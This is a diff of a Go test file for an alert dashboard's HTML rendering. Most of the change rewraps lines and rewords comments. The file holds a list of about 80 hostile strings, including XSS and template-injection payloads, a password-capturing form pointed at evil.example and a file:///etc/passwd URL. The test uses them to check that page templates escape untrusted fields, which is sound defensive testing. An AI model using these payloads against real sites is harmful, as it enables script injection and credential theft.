@@ -14,24 +14,33 @@ import (
 	"muster/internal/query"
 )
 
-// hostile are strings that break out of something somewhere.
+// hostile holds strings that are dangerous in HTML, in attributes, in scripts, in
+// style sheets or in URLs.
 var hostile = []string{
 	`<script>alert(1)</script>`, `</script><script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`,
-	`<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<script/src=data:,alert(1)>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<img src=x onerror=alert(1)>`,
+	`<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<script/src=data:,alert(1)>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
+	`<img src=x onerror=alert(1)>`,
 	`"><img src=x onerror=alert(1)>`, `<img src="x" onerror="alert(1)`, `" onmouseover="alert(1)`, `' onmouseover='alert(1)`,
 	` onfocus=alert(1) autofocus `, `" autofocus onfocus=alert(1) x="`, "` onclick=alert(1) `", `<svg onload=alert(1)>`,
-	`<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
-	`</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `<style>*{display:none}</style>`,
-	`</pre></code></main></body></html><h1>owned</h1>`, `<iframe src="javascript:alert(1)">`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="javascript:alert(1)">`,
-	`<embed src="javascript:alert(1)">`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`,
-	`<form action=//evil.example><input name=password>`, `<button formaction=javascript:alert(1)>x`, `<details open ontoggle=alert(1)>`, `<a href="javascript:alert(1)">x</a>`,
-	`<!--<script>alert(1)</script>-->`, `--><script>alert(1)</script><!--`, `<![CDATA[<script>alert(1)</script>]]>`, `]]><script>alert(1)</script>`,
+	`<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
+	`<svg><animate onbegin=alert(1) attributeName=x>`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
+	`</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`,
+	`<style>*{display:none}</style>`,
+	`</pre></code></main></body></html><h1>owned</h1>`, `<iframe src="javascript:alert(1)">`,
+	`<iframe srcdoc="<script>alert(1)</script>">`, `<object data="javascript:alert(1)">`,
+	`<embed src="javascript:alert(1)">`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
+	`<link rel=stylesheet href=//evil.example/x.css>`,
+	`<form action=//evil.example><input name=password>`, `<button formaction=javascript:alert(1)>x`,
+	`<details open ontoggle=alert(1)>`, `<a href="javascript:alert(1)">x</a>`,
+	`<!--<script>alert(1)</script>-->`, `--><script>alert(1)</script><!--`, `<![CDATA[<script>alert(1)</script>]]>`,
+	`]]><script>alert(1)</script>`,
 	`{{.}}`, `{{template "main" .}}`, `{{printf "%s" "<script>"}}`, `${alert(1)}`,
 	`<%= 7*7 %>`, `#{7*7}`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`,
 	`&quot; onclick=alert(1) &quot;`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)",
 	"\x01javascript:alert(1)", `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `//evil.example/x`,
 	`/\evil.example/x`, `\\evil.example\x`, `https://user:pw@evil.example/`, `http://`,
-	`https:///evil.example`, `http:evil.example`, `https://evil.example/"onclick="alert(1)`, `https://evil.example/</a><script>alert(1)</script>`,
+	`https:///evil.example`, `http:evil.example`, `https://evil.example/"onclick="alert(1)`,
+	`https://evil.example/</a><script>alert(1)</script>`,
 	`https://evil.example/?a=b&c=d#" onclick="x`, `file:///etc/passwd`, `blob:https://evil.example/1`, "https://evil.example/\r\nX: 1",
 	"\u202eevil\u202c", "\u2066\u200fltr\u2069", "\x00<script>alert(1)</script>", "a\x00b",
 	"line\u2028sep\u2029par", "\ufeff<script>", "\xff\xfe<script>\xc3", "\xc0\xbcscript\xc0\xbe",
@@ -40,7 +49,7 @@ var hostile = []string{
 	strings.Repeat("A", 20000), strings.Repeat("<b>", 2000), strings.Repeat("é", 300), "\n\r\t", "",
 }
 
-// parts are the elements and attributes of a page.
+// parts returns the elements, attributes and links of a page.
 func parts(t *testing.T, page string) (elements, attrs map[string]bool, hrefs []string) {
 	t.Helper()
 	doc, err := html.Parse(strings.NewReader(page))
@@ -63,21 +72,26 @@ func parts(t *testing.T, page string) (elements, attrs map[string]bool, hrefs []
 	return elements, attrs, hrefs
 }
 
-// hostileGroup holds s in each of its fields.
+// hostileGroup returns a group with s in each field, and its events.
 func hostileGroup(s string) (*grouping.AlertGroup, []grouping.Event) {
 	all := grouping.Labels{}
 	for _, name := range []string{
-		"alertname", "severity", "pod", "namespace", "summary", "description", "message", "runbook_url", "dashboard", "dashboard_url", "grafana_url", s,
+		"alertname", "severity", "pod", "namespace", "summary", "description", "message", "runbook_url", "dashboard", "dashboard_url",
+		"grafana_url", s,
 	} {
 		all[name] = s
 	}
 	key := grouping.Key{Source: s, Receiver: s, GroupKey: s}
 	g := grouping.AlertGroup{ID: key.ID(), Meta: grouping.Meta{
 		Key: key, GroupLabels: all, CommonLabels: all, CommonAnnotations: all, RouteLabels: all, ExternalURL: s, LastReason: s,
-		CreatedAt: night.Add(-time.Hour), UpdatedAt: night, LastNotifiedAt: night.Add(-time.Minute), Truncated: 1, Stale: true, Settling: true, Stamp: "x",
+		CreatedAt: night.Add(-time.Hour), UpdatedAt: night, LastNotifiedAt: night.Add(-time.Minute), Truncated: 1, Stale: true,
+		Settling: true, Stamp: "x",
 	}}
 	var events []grouping.Event
-	for i, status := range []grouping.Status{grouping.StatusFiring, grouping.StatusFiring, grouping.StatusResolved, grouping.StatusUnreported} {
+	for i, status := range []grouping.Status{
+		grouping.StatusFiring, grouping.StatusFiring, grouping.StatusResolved,
+		grouping.StatusUnreported,
+	} {
 		own := grouping.Labels{"pod": fmt.Sprint(i) + s}
 		for name, value := range all {
 			if name != "pod" {
@@ -85,8 +99,9 @@ func hostileGroup(s string) (*grouping.AlertGroup, []grouping.Event) {
 			}
 		}
 		a := &grouping.Alert{
-			Fingerprint: grouping.Fingerprint(fmt.Sprintf("%016x", i)), Status: status, Labels: own, Annotations: own, GeneratorURL: s, ReportedBy: s,
-			StartsAt: night.Add(-time.Hour), ChangedAt: night.Add(-time.Minute), Disputed: true,
+			Fingerprint: grouping.Fingerprint(fmt.Sprintf("%016x", i)), Status: status, Labels: own, Annotations: own, GeneratorURL: s,
+			ReportedBy: s,
+			StartsAt:   night.Add(-time.Hour), ChangedAt: night.Add(-time.Minute), Disputed: true,
 		}
 		if status == grouping.StatusResolved {
 			a.EndsAt = night.Add(-time.Minute)
@@ -111,7 +126,10 @@ func hostilePages(s string) map[string]Page {
 	groups := []*grouping.AlertGroup{g, noName}
 	site := newSite(groups)
 	site.Version, site.Storage.Mode, site.Storage.Reason, site.Storage.DegradedSince, site.Storage.Healthy = s, s, s, night, false
-	site.Heartbeats = []grouping.Heartbeat{{Source: s, Alertmanager: s, Labels: grouping.Labels{"alertname": s, s: s}, State: grouping.HeartbeatEnded, At: night}}
+	site.Heartbeats = []grouping.Heartbeat{{
+		Source: s, Alertmanager: s, Labels: grouping.Labels{"alertname": s, s: s},
+		State: grouping.HeartbeatEnded, At: night,
+	}}
 	site.Links.External = "https://muster.example.net"
 	q := func(name string) View {
 		return ParseView(query.Of(map[string][]string{name: {s}, "receiver": {s}, "source": {s}}))
@@ -122,21 +140,30 @@ func hostilePages(s string) map[string]Page {
 	by := q("by")
 	by.By = append(by.By, "pod", s)
 	return map[string]Page{
-		"list":     list(viewOf(query.StateFiring)),
-		"filter":   list(q("filter")),
-		"matcher":  list(viewOf(query.StateAll).with(equals(s, s))),
-		"by":       NewByPage(site, by, groups),
-		"byall":    NewByPage(site, View{Groups: viewOf(query.StateAll).Groups, By: []string{"pod", s}}, groups),
-		"empty":    NewGroupsPage(site, q("filter"), grouping.GroupPage{}),
-		"group":    NewGroupPage(site, GroupView{Range: s}, g, events),
-		"noname":   NewGroupPage(site, GroupView{Range: "7d"}, noName, events),
-		"alert":    NewAlertPage(site, AlertView{Source: s, Receiver: s}, g.Alerts[0].Fingerprint, groups, events),
-		"history":  NewHistoryPage(site, ParseHistoryView(query.Of(map[string][]string{"filter": {s}, "kind": {s}, "group": {s}, "alert": {s}, "at": {s}, "cursor": {s}, "source": {s}, "receiver": {s}}), night), grouping.EventPage{Events: events, Next: s}),
-		"historym": NewHistoryPage(site, HistoryView{Events: query.Events{Filter: q("filter").with(equals(s, s)).Filter, Group: grouping.ID(s), Fingerprint: grouping.Fingerprint(s), Source: s, Receiver: s}}, grouping.EventPage{}),
+		"list":    list(viewOfState(query.StateFiring)),
+		"filter":  list(q("filter")),
+		"matcher": list(viewOfState(query.StateAll).with(equals(s, s))),
+		"by":      NewByPage(site, by, groups),
+		"byall":   NewByPage(site, View{Groups: viewOfState(query.StateAll).Groups, By: []string{"pod", s}}, groups),
+		"empty":   NewGroupsPage(site, q("filter"), grouping.GroupPage{}),
+		"group":   NewGroupPage(site, GroupView{Range: s}, g, events),
+		"noname":  NewGroupPage(site, GroupView{Range: "7d"}, noName, events),
+		"alert":   NewAlertPage(site, AlertView{Source: s, Receiver: s}, g.Alerts[0].Fingerprint, groups, events),
+		"history": NewHistoryPage(site, ParseHistoryView(query.Of(map[string][]string{
+			"filter": {s}, "kind": {s}, "group": {s},
+			"alert": {s}, "at": {s}, "cursor": {s}, "source": {s}, "receiver": {s},
+		}), night), grouping.EventPage{Events: events, Next: s}),
+		"historym": NewHistoryPage(site, HistoryView{Events: query.Events{
+			Filter: q("filter").with(equals(s, s)).Filter,
+			Group:  grouping.ID(s), Fingerprint: grouping.Fingerprint(s), Source: s, Receiver: s,
+		}}, grouping.EventPage{}),
 		"status": NewStatusPage(site, StatusInput{
 			Problems: []string{s},
-			Stats:    grouping.Stats{Receivers: map[string]int{s: 1}, Sources: map[string]grouping.SourceStats{s: {Alertmanagers: map[string]time.Time{s: night}}}},
-			Build:    []Fact{{s, s}}, Settings: []Fact{{s, s}}, Limits: []Limit{{s, s, 1}}, Rejected: []Rejection{{night, s, 400, s, 2}},
+			Stats: grouping.Stats{
+				Receivers: map[string]int{s: 1},
+				Sources:   map[string]grouping.SourceStats{s: {Alertmanagers: map[string]time.Time{s: night}}},
+			},
+			Build: []Fact{{s, s}}, Settings: []Fact{{s, s}}, Limits: []Limit{{s, s, 1}}, Rejected: []Rejection{{night, s, 400, s, 2}},
 		}),
 		"help":  NewHelpPage(site),
 		"gone":  NewGonePage(site, grouping.ID(s), grouping.Fingerprint(s), events),
@@ -144,14 +171,14 @@ func hostilePages(s string) map[string]Page {
 	}
 }
 
-// Whatever a field holds, it makes no element and no attribute that the
-// templates do not make themselves, and no link that is no link.
+// A field never creates an element or an attribute that the templates do not
+// contain, and never an unsafe link.
 func TestHostileStrings(t *testing.T) {
 	require.Greater(t, len(hostile), 60)
 	r := newRenderer(t)
 	elements, attrs := map[string]bool{}, map[string]bool{}
 	learn := func(p Page) {
-		es, as, _ := parts(t, render(t, r, p))
+		es, as, _ := parts(t, renderPage(t, r, p))
 		for e := range es {
 			elements[e] = true
 		}
@@ -168,22 +195,22 @@ func TestHostileStrings(t *testing.T) {
 	delete(elements, "style")
 	for _, s := range hostile {
 		for name, p := range hostilePages(s) {
-			es, as, hrefs := parts(t, render(t, r, p))
+			es, as, hrefs := parts(t, renderPage(t, r, p))
 			for e := range es {
 				if !elements[e] {
-					t.Errorf("%s: %.60q makes an element %q", name, s, e)
+					t.Errorf("%s: %.60q creates an element %q", name, s, e)
 				}
 			}
 			for a := range as {
 				if !attrs[a] || strings.Contains(a, " on") || strings.HasSuffix(a, " style") {
-					t.Errorf("%s: %.60q makes an attribute %q", name, s, a)
+					t.Errorf("%s: %.60q creates an attribute %q", name, s, a)
 				}
 			}
 			for _, href := range hrefs {
 				own := strings.HasPrefix(href, "/am/") || strings.HasPrefix(href, "#")
 				outside := strings.HasPrefix(href, "https://evil.example/") || strings.HasPrefix(href, "https://prometheus.example.net/")
 				if !own && !outside || strings.HasPrefix(href, "//") {
-					t.Errorf("%s: %.60q makes a link to %.80q", name, s, href)
+					t.Errorf("%s: %.60q creates a link to %.80q", name, s, href)
 				}
 			}
 		}
